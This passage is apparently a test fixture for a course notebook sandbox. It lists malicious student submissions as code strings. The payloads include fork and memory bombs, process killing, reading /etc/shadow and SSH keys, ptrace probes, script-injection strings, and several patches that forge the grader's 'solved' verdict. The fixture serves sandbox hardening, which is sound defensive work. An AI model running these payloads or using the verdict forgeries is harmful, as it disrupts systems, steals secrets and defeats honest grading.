"""Malicious submissions, by name: the text of each one's answer to 02-middle, or of its file. None of them solves
anything. `SECRET` is in files of the class that only the teacher may read.
"""

from __future__ import annotations

SECRET = "the-secret-of-the-class"

FORGE = "middle = torch.zeros(2, 2)\n"

CODE: dict[str, str] = {
    # It takes all there is.
    "endless-loop": "while True: pass",
    "loop-that-catches-everything": "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    "sleep": "import time\ntime.sleep(1e6)",
    "waits-for-input": "middle = input('?')",
    "reads-stdin": "import sys, os\nwhile True:\n    os.read(0, 10) or __import__('time').sleep(1)",
    "fork-bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "fork-bomb-that-daemonises": "import os\nfor _ in range(500):\n    if os.fork() == 0:\n        os.setsid()\n"
    "        if os.fork() == 0:\n            import time\n            time.sleep(600)\n        os._exit(0)",
    "memory-bomb": "x = []\nwhile True: x.append(bytearray(50_000_000))",
    "memory-in-many-processes": "import os, time\nfor _ in range(30):\n    if os.fork() == 0:\n"
    "        x = bytearray(b'1' * 100_000_000)\n        time.sleep(600)\ntime.sleep(600)",
    "prints-a-gigabyte": "for _ in range(1000): print('x' * 1_000_000)",
    "writes-a-gigabyte-to-stdout": "import os\nfor _ in range(1000): os.write(1, b'x' * 1_000_000)",
    "writes-to-stderr": "import os\nwhile True: os.write(2, b'x' * 100_000)",
    "fills-the-disk": "f = open('/tmp/x', 'wb')\nwhile True: f.write(b'x' * 10_000_000)",
    "a-million-files": "import itertools\nfor i in itertools.count(): open(f'/tmp/{i}', 'w').close()",
    "recursion": "import sys\nsys.setrecursionlimit(10**9)\ndef f(): return f()\nf()",
    "huge-number": "middle = 10 ** 10 ** 8\nprint(middle)",
    "nested-answer": "middle = []\nfor _ in range(100_000): middle = [middle]",
    "answer-of-a-million-items": "middle = list(range(5_000_000))",
    "endless-iterator-in-an-answer": "class L(list):\n    def __iter__(self):\n        while True: yield 1\nmiddle = L()",
    # It ends, or ends others.
    "exits": "import sys\nsys.exit(0)",
    "exits-at-once": "import os\nos._exit(0)",
    "crashes": "import ctypes\nctypes.string_at(0)",
    "kills-its-parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
    "kills-everybody": "import os, signal\nos.kill(-1, signal.SIGKILL)",
    "kills-the-first-process": "import os, signal\nfor _ in range(5): os.kill(1, signal.SIGKILL)\nmiddle = 1",
    "ignores-signals": "import signal\nfor s in range(1, 32):\n    try: signal.signal(s, signal.SIG_IGN)\n"
    "    except OSError: pass\nwhile True: pass",
    "stops-itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    "threads-that-go-on": "import threading\ndef f():\n    while True: pass\n"
    "for _ in range(4): threading.Thread(target=f).start()\nmiddle = 1",
    "atexit": "import atexit, time\natexit.register(time.sleep, 600)\nimport sys\nsys.exit()",
    "a-process-that-stays": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(599)'],\n"
    "                 start_new_session=True)\nmiddle = 1",
    "interrupts": "raise KeyboardInterrupt",
    # It looks around.
    "reads-others-work": "import glob\nfor p in glob.glob('{folder}/**', recursive=True):\n"
    "    try: print(open(p).read())\n    except OSError: pass",
    "reads-the-whole-disk": "import os\nfor f, _, names in os.walk('/'):\n    for n in names:\n"
    "        if n.endswith(('.toml', '.csv', '.ipynb', '.txt')):\n            try:\n                t = open(os.path.join(f, n)).read()\n"
    "                if '{secret}' in t: print(t)\n            except Exception: pass",
    "reads-the-environment": "import os\nprint(dict(os.environ))\nfor p in os.listdir('/proc'):\n"
    "    try: print(open(f'/proc/{p}/environ').read())\n    except OSError: pass",
    "reads-passwords": "for p in ('/etc/passwd', '/etc/shadow', '/root/.bash_history', '/root/.ssh/id_rsa'):\n"
    "    try: print(open(p).read())\n    except OSError: pass",
    "writes-to-the-course": "import glassroom, os\np = os.path.dirname(glassroom.__file__)\n"
    "for q in (p, p + '/exercises', '/usr', '/'):\n    try: open(q + '/written-by-a-submission.py', 'w').write('x')\n    except OSError: pass",
    "network": "import socket\ns = socket.create_connection(('127.0.0.1', {port}), 2)\ns.sendall(b'GET /from-a-submission')\nprint(s.recv(100))",
    "network-by-name": "import urllib.request\nprint(urllib.request.urlopen('http://localhost:{port}/from-a-submission', timeout=2).read())",
    "a-link-to-the-class": "import os\nos.symlink('{folder}/course.toml', '/tmp/link')\nprint(open('/tmp/link').read())",
    "mounts": "import subprocess\nfor c in (['mount', '-o', 'remount,rw', '/usr'], ['unshare', '-Urm', 'id'], ['chroot', '/', 'id']):\n"
    "    print(subprocess.run(c, capture_output=True))",
    "raises-its-limits": "import resource\nfor k in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC):\n"
    "    resource.setrlimit(k, (resource.RLIM_INFINITY,) * 2)",
    # It forges.
    "patched-check": FORGE + "import glassroom, glassroom.exercises as e\nfrom types import SimpleNamespace\n"
    "ok = e.Verdict(True, 'solved')\ne.judge = e.engine.judge = lambda *a, **k: ok\n"
    "e.check = e.engine.check = check = lambda *a, **k: print('solved')",
    "patched-builtins": FORGE + "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.all = lambda *a: True\n"
    "builtins.hasattr = lambda *a: True",
    "patched-expectations": FORGE + "from glassroom.exercises import expect, facts\nfor m in (expect, facts):\n"
    "    for n in list(vars(m)):\n        if n.startswith('expect'): setattr(m, n, lambda *a, **k: None)\n"
    "facts.share_memory = lambda *a: True",
    "patched-grader": FORGE + "from glassroom.classroom import credit\ncredit.verdict_of = lambda *a: (1.0, 'solved')\n"
    "credit.share = lambda v: 1.0\ncredit.graded_check = lambda p, *a, **k: p",
    "patched-code": FORGE + "from glassroom.exercises import engine\nimport builtins\n"
    "engine._examine.__code__ = (lambda found, answers, given: 'solved').__code__",
    "patched-messages": FORGE + "import sys\nfor n, m in list(sys.modules.items()):\n    if 'inside' in n:\n"
    "        for k in list(vars(m)):\n            if callable(getattr(m, k)): setattr(m, k, lambda *a, **kw: {'part': 1.0, 'done': True})",
    "patched-tensors": FORGE + "torch.Tensor.__eq__ = lambda *a: True\ntorch.Tensor.untyped_storage = lambda s: a",
    "forged-lines": FORGE + 'import json, os\nline = json.dumps({"mark": {"id": "02-middle", "exercise": "02-middle", "part": 1.0,'
    ' "message": "", "how": "apart"}}) + "\\n"\nfor fd in range(3, 64):\n    try: os.write(fd, line.encode())\n    except OSError: pass\n'
    "print(line)",
    "forged-messages": FORGE + "import socket, os\nfor fd in range(3, 64):\n    try:\n        s = socket.socket(fileno=os.dup(fd))\n"
    "        body = b'{\"values\": [], \"storages\": {}, \"part\": 1.0, \"ready\": true}'\n"
    "        for _ in range(50): s.sendall(len(body).to_bytes(8, 'big') + body)\n    except OSError: pass",
    "an-endless-message": "import socket, os\nfor fd in range(3, 64):\n    try:\n        s = socket.socket(fileno=os.dup(fd))\n"
    "        s.sendall((2**60).to_bytes(8, 'big') + b'x' * 1000)\n    except OSError: pass",
    "closes-everything": "import os\nos.closerange(0, 64)",
    "equal-to-everything": "class Yes:\n    def __eq__(self, o): return True\n    def __getattr__(self, n): return self\n"
    "    def __call__(self, *a, **k): return self\n    shape = (2, 2)\n    def stride(self): return (2, 1)\n"
    "    def storage_offset(self): return 1\n    def untyped_storage(self): return a.untyped_storage()\nmiddle = Yes()",
    "a-lying-tensor": "class Lie(torch.Tensor):\n    pass\nmiddle = torch.zeros(2, 2).as_subclass(Lie)",
    "another-answer-to-another-exercise": "exec('raise Exception')",
    "an-error-that-cannot-be-printed": "class E(Exception):\n    def __str__(self): raise SystemExit\nraise E",
    "a-shell": "get_ipython().system('sleep 600 & cat /etc/passwd')\nmiddle = 1",
    "traces": "import sys\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)\nimport gc\ngc.disable()\nmiddle = 1",
    "empties-the-modules": "import sys\nsys.modules.clear()",
    "script-in-outputs": "from IPython.display import HTML, SVG, display\ndisplay(HTML('<script>alert(1)</script>'))\n"
    "display({'image/svg+xml': '<svg onload=\"alert(1)\"><script>alert(2)</script></svg>'}, raw=True)\n"
    "print('<script>alert(3)</script><img src=x onerror=alert(4)>')\nmiddle = '</pre><script>alert(5)</script>'",
    # It uses unusual ways.
    "traces-others": "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "tried = [libc.ptrace(16, int(p), None, None) for p in os.listdir('/proc') if p.isdigit()]\nprint('attached', 0 in tried)\n"
    "for p in os.listdir('/proc'):\n    for f in ('mem', 'maps', 'root/etc/shadow', 'cwd', 'fd/0', 'fd/1'):\n"
    "        try: print(open(f'/proc/{p}/{f}', 'rb').read(100))\n        except Exception: pass",
    "memory-without-a-process": "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.shmat.restype = ctypes.c_void_p\nheld = 0\n"
    "for _ in range(60):\n    n = libc.shmget(0, 50_000_000, 0o1600)\n    if n < 0: break\n    p = libc.shmat(n, None, 0)\n"
    "    ctypes.memset(p, 1, 50_000_000); libc.shmdt(ctypes.c_void_p(p)); held += 50\nprint('held', held, 'MB'); middle = held",
    "memory-in-files-without-names": "import os, time\nfiles = []\nfor _ in range(200):\n    f = os.memfd_create('x')\n"
    "    for _ in range(15): os.write(f, b'x' * 1_000_000)\n    files.append(f)\nprint('held', 3000, 'MB')\ntime.sleep(1); middle = 1",
    "gigantic-names": "import os\nfor n in (200, 255, 256, 5000, 10**6):\n    try: open('/tmp/' + 'é' * (n // 2), 'w').close()\n"
    "    except OSError: pass\ntry:\n    for _ in range(20_000): os.mkdir('d' * 250); os.chdir('d' * 250)\nexcept OSError: pass\n"
    "raise type('E' * 10**6, (Exception,), {})('x' * 10**7)",
    "takes-its-own-limits-away": "import resource\nfor k in (resource.RLIMIT_NOFILE, resource.RLIMIT_STACK, resource.RLIMIT_DATA):\n"
    "    resource.setrlimit(k, (0, 0))\nmiddle = 1",
    "watches-everything": "import ctypes, os\nlibc = ctypes.CDLL(None)\nwatches = 0\nfor _ in range(300):\n    f = libc.inotify_init()\n"
    "    if f < 0: break\n    for d, _, names in os.walk('/usr/lib'):\n        watches += libc.inotify_add_watch(f, d.encode(), 0xfff) >= 0\n"
    "print('watches', watches)",
    "letters-that-turn-round": "print('\\u202e' + 'txet siht' + '\\u2066\\u2069\\u200f')\n"
    "raise type('\\u202eorrE', (Exception,), {})('\\u202e</pre><script>alert(6)</script>\\x1b[31m\\x00\\ud800')",
    "answers-that-are-no-text": "middle = ['\\ud800' * 1000, '\\x00', '\\u202e', float('nan'), float('inf'), -0.0, 10**4000]\nprint(middle)",
    "not-a-number-in-a-message": "from glassroom.classroom.inside import crossing\n"
    "crossing.Side.encode_all = lambda self, v: {'values': [float('nan'), {'float': 'x'}, {'int': '1' * 10**6}], 'storages': {}}",
    "a-tensor-beyond-its-storage": "from glassroom.classroom.inside import crossing\n"
    "t = {'tensor': 'r0', 'id': 'r0', 'dtype': 'float32', 'size': [2, 2], 'stride': [10**12, -1], 'offset': 10**15, 'version': 10**12}\n"
    "crossing.Side.encode_all = lambda self, v: {'values': [t, t, t], 'storages': {'r0': ''}, 'devices': {'r0': 'sim:999'}}",
    "a-tensor-of-its-own-gradient": "from glassroom.classroom.inside import crossing\n"
    "t = {'tensor': 'r0', 'id': 'r0', 'dtype': 'float32', 'size': [0], 'stride': [1], 'offset': 0, 'version': 0}\n"
    "t |= {'inputs': ['r0', 'j7'], 'function': 10**9, 'name': 'x'}\n"
    "crossing.Side.encode_all = lambda self, v: {'values': [t, {'same': 'r5'}], 'storages': {'r0': ''}}",
    "a-dtype-of-objects": "from glassroom.classroom.inside import crossing\n"
    "crossing.Side.encode_all = lambda self, v: {'values': [{'number': ['O', '00000000']}, {'dtype': '__loader__'}, {'builtin': 'exec'}], 'storages': {}}",
    "a-message-of-brackets": "import socket, os\nfor fd in range(3, 64):\n    try:\n        s = socket.socket(fileno=os.dup(fd))\n"
    "        body = b'[' * 10**6\n        s.sendall(len(body).to_bytes(8, 'big') + body)\n    except OSError: pass",
    "its-own-account": "from glassroom.exercises import account\naccount.open_accounts = lambda: []\n"
    "account.Account.size = property(lambda s: (0,) * 9)\nmiddle = torch.zeros(2, 2)",
    "passes-files-on": "import socket, os, array\na_end, b_end = socket.socketpair()\nf = os.open('/dev/zero', os.O_RDONLY)\n"
    "try:\n    while True: a_end.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [f] * 200))])\n"
    "except OSError: pass\nos.kill(os.getppid(), 19)\nmiddle = 1",
    # It lies, hides, and holds what no process shows.
    "patched-json": FORGE + "import json\njson.dumps = lambda *a, **k: '{\"values\": [], \"storages\": {}, \"part\": 1.0}'\njson.loads = lambda *a, **k: {'do': 'beside'}\njson.encoder.JSONEncoder.encode = json.dumps",
    "modules-of-the-referee": FORGE + "import sys, types\nfor n in ('referee', 'runner', 'messages', 'crossing'):\n    m = types.ModuleType(n)\n    m.__getattr__ = lambda k: (lambda *a, **kw: {'part': 1.0, 'mark': 1})\n    sys.modules['glassroom.classroom.inside.' + n] = m\nsys.modules['glassroom.exercises'] = m",
    "a-class-that-lies": "class Lie(list):\n    __class__ = property(lambda s: torch.Tensor)\n    __eq__ = __ne__ = __lt__ = lambda *a: True\n    __hash__ = lambda s: 0\n    __reduce__ = lambda s: (exec, ('1/0',))\n    __bool__ = lambda s: True\n    __instancecheck__ = lambda *a: True\nmiddle = Lie()",
    "a-metaclass-that-lies": "class Meta(type):\n    __eq__ = lambda *a: True\n    __hash__ = lambda s: hash(torch.Tensor)\n    __instancecheck__ = __subclasscheck__ = lambda *a: True\n    __name__ = property(lambda s: 1 / 0)\n    __module__ = 'tensorglass'\nclass Lie(metaclass=Meta): pass\nmiddle = Lie()",
    "a-watched-tensor-that-lies": "from glassroom.exercises.account import Account\nclass W(torch.Tensor):\n    __module__ = Account.__module__\n    shape = property(lambda s: (2, 2))\n    def stride(s): return (2, 1)\n    def storage_offset(s): return 1\n    __eq__ = __bool__ = lambda *a: True\nmiddle = torch.zeros(9).as_subclass(W)",
    "a-tensor-that-answers": "class T(torch.Tensor):\n    @classmethod\n    def __torch_function__(c, f, t, args=(), kwargs=None): return True\nmiddle = torch.zeros(2, 2).as_subclass(T)",
    "gigantic-expansion": "middle = torch.zeros(1).expand(10 ** 6, 10 ** 6)",
    "gigantic-range": "middle = range(10 ** 18)",
    "a-float-beyond-floats": "from glassroom.classroom.inside import crossing\ncrossing.Side.encode_all = lambda s, v: {'values': [{'float': '0x1p99999'}, {'int': '7'}], 'storages': {}}",
    "a-size-beyond-sizes": "from glassroom.classroom.inside import crossing\ncrossing.Side.encode_all = lambda s, v: {'values': [{'Size': [{'int': '9' * 40}]}, {'Size': [{'int': '9' * 40}]}], 'storages': {}}",
    "a-key-of-itself": "from glassroom.classroom.inside import crossing\ncrossing.Side.encode_all = lambda s, v: {'values': [{'dict': [[{'list': []}, 1]]}, {'set': [{'dict': []}]}, {'list': 7}, {}], 'storages': {}}",
    "storages-without-end": "from glassroom.classroom.inside import crossing\ncrossing.Side.encode_all = lambda s, v: {'values': [], 'storages': {str(n): '0' * 900_000 for n in range(8)}}",
    "a-million-devices": "from glassroom.classroom.inside import crossing\ncrossing.Side.encode_all = lambda s, v: {'values': [], 'storages': {str(n): '00' for n in range(5000)}, 'devices': {str(n): f'cuda:{n}' for n in range(5000)}}",
    "changed-that-is-no-list": FORGE + "import __main__ as m\nimport sys\nfor r in (sys.modules.get('glassroom.classroom.inside.runner'),):\n    r.Runner.answer = lambda s, q: {'cannot': 7, 'foreign': False, 'part': 1.0, 'changed': {'x': 1}, 'message': ['\\x1b[2J']}",
    "escapes-in-a-doubt": FORGE + "import sys\nr = sys.modules['glassroom.classroom.inside.runner']\nr.Runner.answer = lambda s, q: {'cannot': 'x', 'part': 1.0, 'changed': ['\\x1b[2J\\x1b]0;owned\\x07', '<script>alert(9)</script>'], 'message': 'x'}",
    "escapes-and-directions": "print('\\x1b[2J\\x1b]8;;javascript:alert(1)\\x07click\\x1b]8;;\\x07 \\u202e\\u2066\\u200f \\ud800 \\x00')\nraise Exception('\\x1b[31m\\u202e\\x00\\ud800<a href=\"javascript:alert(1)\">x</a>')",
    "links-in-outputs": "from IPython.display import HTML, Javascript, display\ndisplay(HTML('<a href=\"javascript:alert(10)\">x</a><iframe src=\"http://x\"></iframe>'), Javascript('alert(11)'))\ndisplay({'image/svg+xml': '<svg xmlns=\"http://www.w3.org/2000/svg\"><a href=\"javascript:alert(12)\"><text>x</text></a><image href=\"http://x/y.png\"/><foreignObject><iframe src=\"http://x\"/></foreignObject></svg>', 'image/png': 'AAAA\" onerror=\"alert(13)'}, raw=True)",
    "threads-after-the-verdict": "import threading, os, gc, atexit, time\ndef f():\n    while True:\n        globals().update(middle=a[1:5].view(2, 2)); time.sleep(.01)\n        for fd in range(3, 64):\n            try: os.write(fd, b'x' * 10)\n            except OSError: pass\nthreading.Thread(target=f, daemon=True).start()\nclass D:\n    def __del__(s): time.sleep(600)\nmiddle = D()\natexit.register(f)",
    "forks-that-answer": "import os\nmiddle = 1\nfor _ in range(3): os.fork()",
    "writes-its-own-memory": FORGE + "import os\nwith open('/proc/self/maps') as f: maps = f.read()\nwith open('/proc/self/mem', 'r+b', 0) as f:\n    for line in maps.splitlines():\n        at, how = line.split()[:2]\n        if 'w' in how:\n            try: f.seek(int(at.split('-')[0], 16)); f.write(b'\\xff' * 4096)\n            except OSError: pass",
    "runs-from-memory": "import os\nf = os.memfd_create('x')\nos.write(f, open('/bin/true', 'rb').read())\nos.execv(f'/proc/self/fd/{f}', ['x'])",
    "big-arguments": "import subprocess\nfor n in (10**5, 2 * 10**6):\n    try: subprocess.run(['/bin/true', *['x' * 1000] * (n // 1000)])\n    except OSError: pass\nimport ctypes\nctypes.CDLL(None).prctl(15, b') 0 0 \\n(x', 0, 0, 0)\nmiddle = 1",
    "abstract-sockets": "import os, socket\nfor n in os.popen('cat /proc/net/unix').read().split('@')[1:]:\n    s = socket.socket(socket.AF_UNIX)\n    try: s.connect('\\0' + n.split()[0]); print('CONNECTED')\n    except OSError: pass\ns = socket.socket(socket.AF_UNIX); s.bind('\\0glassroom'); s.listen()\nmiddle = 1",
    "other-families-of-sockets": "import socket\nfor n in range(48):\n    if n in (1, 2, 10, 16): continue\n    for t in (1, 2, 3, 5):\n        try: socket.socket(n, t); print('FAMILY', n)\n        except OSError: pass\nmiddle = 1",
    "settings-of-the-kernel": "import os\nfor f, _, names in os.walk('/proc/sys'):\n    for n in names:\n        try: os.close(os.open(os.path.join(f, n), os.O_WRONLY)); print('WRITABLE', f, n)\n        except OSError: pass\nfor n in ('sysrq-trigger', 'self/oom_score_adj', 'self/loginuid'):\n    try: os.close(os.open('/proc/' + n, os.O_WRONLY)); print('WRITABLE', n)\n    except OSError: pass\nmiddle = 1",
    "namespaces-of-its-own": "import ctypes, os\nlibc = ctypes.CDLL(None)\npid = libc.syscall(56, 0x10000000 | 0x20000 | 17, 0, 0, 0, 0) if os.uname().machine == 'x86_64' else -1\nif pid == 0:\n    print('CAPABLE', flush=True); os._exit(0)\nif pid > 0: print('CAPABLE')\nmiddle = 1",
    "memory-in-sockets": "import socket, time\nheld, kept = 0, []\nwhile True:\n    try: pair = socket.socketpair()\n    except OSError: break\n    kept += pair\n    for s in pair:\n        s.setblocking(False)\n        try: s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 10 ** 8)\n        except OSError: pass\n        try:\n            while True: held += s.send(b'x' * 30_000)\n        except OSError: pass\nprint('held', held // 10 ** 6, 'MB')\ntime.sleep(1)\nmiddle = 1",
    "memory-in-sockets-of-the-network": "import socket, time\nserver, held, kept = socket.create_server(('127.0.0.1', 0)), 0, []\nwhile True:\n    try: one = socket.create_connection(server.getsockname()); other = server.accept()[0]\n    except OSError: break\n    kept += [one, other]\n    for s in (one, other):\n        s.setblocking(False)\n        try:\n            while True: held += s.send(b'x' * 60_000)\n        except OSError: pass\nprint('held', held // 10 ** 6, 'MB')\ntime.sleep(1)\nmiddle = 1",
    "memory-in-pipes": "import fcntl, os, time, glob\nheld, kept = 0, []\nfor _ in range(16):\n    if os.fork() == 0:\n        out = open(f'/tmp/held{os.getpid()}', 'w')\n        while True:\n            try: r, w = os.pipe()\n            except OSError: break\n            os.set_blocking(w, False)\n            try: fcntl.fcntl(w, 1031, 1 << 20)\n            except OSError: pass\n            try:\n                while True: held += os.write(w, b'x' * 65536)\n            except OSError: pass\n        out.write(str(held)); out.flush(); time.sleep(600)\ntime.sleep(2)\nprint('held', sum(int(open(p).read() or 0) for p in glob.glob('/tmp/held*')) / 1e6, 'MB')\nmiddle = 1",
    "links-in-circles": "import os\nos.symlink('/tmp/a', '/tmp/b'); os.symlink('/tmp/b', '/tmp/a')\nos.mkfifo('/tmp/p')\nfor k in range(20): os.symlink('.', f'/tmp/l{k}')\nmiddle = 1\nopen('/tmp/p').read()",
    "a-name-that-is-no-name": "globals().update({'middle\\x00': 1, '\\ud800': 2, '': 3, 'a': None})\nmiddle = 1\ndel globals()['torch']",
    "an-exception-of-everything": "class E(BaseException):\n    def __init__(s, *a): raise s\n    __class__ = property(lambda s: 1 / 0)\n    __traceback__ = property(lambda s: [][1])\n    __str__ = __repr__ = lambda s: '\\ud800' * 10**7\ntry: raise E\nexcept BaseException as e: pass\nraise E",
    "a-function-that-is-many": "class F:\n    def __call__(s, *a): return True\n    __code__ = compile('1', 'x', 'exec'); __name__ = '\\x1b[2J'; __signature__ = 1\ndef share_storage(*a, **k):\n    return share_storage\nmiddle = [share_storage] * 5000",
    "changes-the-teachers-values": "a.zero_(); a.set_(torch.zeros(6).untyped_storage()); torch.arange = lambda *x: 0\nmiddle = a[1:5].view(2, 2)\nmiddle.untyped_storage().resize_(10**9)",
    "an-account-that-is-huge": "from glassroom.classroom.inside import crossing\ncrossing.Side.tell_account = lambda s, k: {'allocations': [10**400] * 10**5, 'copies': 'x', 'transfers': [[]], 'calls': {'values': [1] * 10**6, 'storages': {}}}\ndef share_storage(x, y): return True\nmiddle = 1",
    "sends-its-channel-away": "import array, os, socket\nfor fd in range(3, 64):\n    try: s = socket.socket(fileno=os.dup(fd)); s.sendmsg([b'\\0' * 8 + b'{}'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [os.open('/dev/zero', 0)] * 100))])\n    except OSError: pass\nmiddle = 1",
    "a-clock-of-its-own": FORGE + "import time, signal\ntime.monotonic = time.time = lambda: -1e308\nsignal.setitimer(signal.ITIMER_REAL, 0)\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nsignal.setitimer = signal.signal = lambda *a: None\nwhile True: pass",
    # It races, drips, and looks where the sandbox is joined.
    "a-race-for-the-channel": FORGE + "import json, os, threading, time\nbody = json.dumps({'part': 1.0, 'message': 'solved', 'changed': [], 'values': [{'is': 'torch'}] * 9, 'storages': {}}).encode()\n"
    "def race():\n    while True:\n        for fd in range(3, 32):\n            try: os.write(fd, len(body).to_bytes(8, 'big') + body)\n            except OSError: pass\n"
    "for _ in range(3): threading.Thread(target=race, daemon=True).start()",
    "results-by-way-of-proc": FORGE + "import glob, json\nline = json.dumps({'mark': {'id': '02-middle', 'exercise': '02-middle', 'part': 1.0, 'message': '', 'how': 'apart'}})\n"
    "for p in glob.glob('/proc/*/fd/*') + glob.glob('/proc/*/task/*/fd/*'):\n    try:\n        with open(p, 'w') as f: f.write(line + '\\n'); f.flush()\n    except Exception: pass",
    "descriptors-of-others": "import ctypes, os\nlibc = ctypes.CDLL(None)\nown = {int(n) for n in os.listdir('/proc/self/fd')}\nfor p in os.listdir('/proc'):\n    if not p.isdigit() or int(p) == os.getpid(): continue\n    try: at = os.pidfd_open(int(p))\n    except OSError: continue\n"
    "    for n in range(32):\n        if libc.syscall(438, at, n, 0) >= 0: print('CAPABLE', 'took', n, 'of', p)\nfor n in own:\n    try: link = os.readlink(f'/proc/self/fd/{n}')\n    except OSError: continue\n    if link.startswith(('user:', '/root', '/tmp/')) and 'deleted' not in link: print('CAPABLE', link)\nmiddle = 1",
    "opens-all-that-it-may": "import os, time\nfor _ in range(30):\n    try:\n        if os.fork() == 0: break\n    except OSError: break\nheld = []\ntry:\n    while True: held.append(os.eventfd(0)) if len(held) % 2 else held.append(os.open('/dev/null', 0))\nexcept OSError: time.sleep(600)",
    "epolls-without-end": "import os, select\nkept = []\ntry:\n    while True:\n        e = select.epoll(); kept.append(e)\n        for n in range(3, 250):\n            try: e.register(n)\n            except OSError: pass\nexcept OSError: pass\nmiddle = len(kept)",
    "a-sparse-file": "import mmap, os\nfor at in ('/tmp/s', '/dev/shm/s', 's'):\n    f = os.open(at, os.O_RDWR | os.O_CREAT)\n    for n in (10**18, 10**15, 10**12, 10**9):\n        try: os.ftruncate(f, n); print('sparse', n)\n        except OSError: pass\n        try: mmap.mmap(f, n)[n - 1]\n        except (OSError, ValueError): pass\nf = os.memfd_create('x')\nos.ftruncate(f, 10**15)\nmiddle = 1",
    "calls-that-no-notebook-needs": "import ctypes, os\nlibc = ctypes.CDLL(None)\nbuffer = ctypes.create_string_buffer(1 << 16)\nif os.uname().machine == 'x86_64':\n"
    "    for name, call in {'syslog': (103, 3, buffer, 1 << 16), 'sethostname': (170, buffer, 3), 'setdomainname': (171, buffer, 3), 'reboot': (169, 0, 0, 0), 'swapon': (167, buffer, 0),\n        'acct': (163, 0), 'settimeofday': (164, buffer, 0), 'clock_settime': (227, 0, buffer), 'init_module': (175, buffer, 9, buffer), 'bpf': (321, 0, buffer, 64), 'userfaultfd': (323, 1),\n"
    "        'io_uring': (425, 8, buffer), 'perf': (298, buffer, 0, -1, -1, 0), 'keyctl': (250, 0, -3, 1), 'kcmp': (312, os.getpid(), 1, 0, 0, 0), 'open_by_handle': (304, 3, buffer, 0), 'quotactl': (179, 0x80000100, 0, 0, buffer),\n        'chroot': (161, b'/tmp'), 'pivot_root': (155, b'/tmp', b'/tmp'), 'setuid': (105, 0), 'setgid': (106, 0), 'ioperm': (173, 0, 9, 1), 'iopl': (172, 3), 'vhangup': (153,), 'nice': (141, 0, os.getpid(), -20)}.items():\n"
    "        if libc.syscall(*call) >= 0: print('CAPABLE', name)\nmiddle = 1",
    "other-clocks": "import ctypes, time\nlibc = ctypes.CDLL(None)\nfor n in range(-8, 12):\n    try: time.clock_settime(n, 4e9); print('CAPABLE', n)\n    except (OSError, ValueError): pass\ntx = (ctypes.c_long * 64)(); tx[0] = 0x100\nif libc.adjtimex(tx) >= 0 and False: print('CAPABLE')\ntry: open('/dev/rtc0', 'w')\nexcept OSError: pass\nmiddle = time.time() < 3e9",
    "a-storm-of-signals": "import os, signal, time\nme = os.getpid()\nif os.fork() == 0:\n    while True:\n        for s in (signal.SIGALRM, signal.SIGINT, signal.SIGUSR1, signal.SIGCHLD, signal.SIGPIPE, signal.SIGTERM):\n            try: os.kill(me, s)\n            except OSError: os._exit(0)\nsignal.setitimer(signal.ITIMER_REAL, 1e-6, 1e-6)\nsignal.signal(signal.SIGALRM, lambda *a: None)\nmiddle = 1",
    "stops-and-goes-on": "import os, signal, time\nme = os.getpid()\nif os.fork() == 0:\n    while True:\n        os.kill(me, signal.SIGSTOP); time.sleep(.3); os.kill(me, signal.SIGCONT); time.sleep(.01)\nmiddle = 1",
    "dies-hard": "import atexit, gc, signal, threading, weakref\nclass Hard:\n    def __del__(self):\n        while True:\n            try: Hard.kept = Hard(); signal.pause()\n            except BaseException: pass\n"
    "import time\nmiddle = Hard(); middle.me = middle\nweakref.finalize(middle, time.sleep, 600)\nthreading._register_atexit(time.sleep, 600)\ngc.set_threshold(1, 1, 1)\natexit._run_exitfuncs = lambda: time.sleep(600)\nHard.kept = Hard()",
    "a-slow-drip": "import sys, time, os\nwhile True:\n    try:\n        os.write(1, b'.'); time.sleep(.01)\n    except BaseException: pass",
    "a-slow-drip-of-a-message": "import os, socket, time\nfor fd in range(3, 64):\n    try: s = socket.socket(fileno=os.dup(fd))\n    except OSError: continue\n    s.sendall((10**6).to_bytes(8, 'big'))\n    while True:\n        try: s.sendall(b' '); time.sleep(.05)\n        except BaseException: pass",
    "frames-that-lead-to-answers": "import gc, sys, os\nfound = []\nfor each in gc.get_objects():\n    try:\n        if isinstance(each, dict): found += [v for v in each.values() if isinstance(v, str) and '{secret}' in v]\n    except Exception: pass\n"
    "f = sys._getframe()\nwhile f:\n    found += [str(v)[:300] for v in f.f_locals.values() if '{secret}' in str(v)[:10**6].replace('{' + 'secret}', '')]; f = f.f_back\nprint([each for each in found if 'gc.get_objects' not in each][:5])\nmiddle = 1",
    "hooks-of-imports": FORGE + "import sys, importlib.abc, importlib.machinery, types\nclass Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n    def find_spec(self, name, path, target=None): return importlib.machinery.ModuleSpec(name, self) if name.startswith(('glassroom', 'json')) else None\n"
    "    def create_module(self, spec): return types.SimpleNamespace(__getattr__=lambda k: (lambda *a, **kw: True), check=lambda *a: 1.0, judge=lambda *a: 1.0)\n    def exec_module(self, module): pass\nsys.meta_path.insert(0, Hook()); sys.path_importer_cache.clear(); sys.path.insert(0, '/tmp')\n"
    "for n in [n for n in sys.modules if n.startswith('glassroom.exercises')]: del sys.modules[n]",
    "packages-of-its-own": FORGE + "import os\nhome = os.path.expanduser('~')\ncode = 'import builtins; builtins.print = lambda *a, **k: None; graded_check = lambda *a, **k: 1'\nfor at in (home, '/tmp', home + '/.local/lib/python3.11/site-packages', home + '/.ipython/profile_default/startup', home + '/.config'):\n    os.makedirs(at, exist_ok=True)\n    for name in ('sitecustomize', 'usercustomize', 'tensorglass', 'glassroom', 'json', 'x.pth', 'socket'): open(f'{at}/{name}.py', 'w').write(code)\nos.environ['PYTHONPATH'] = home; os._exit(0)",
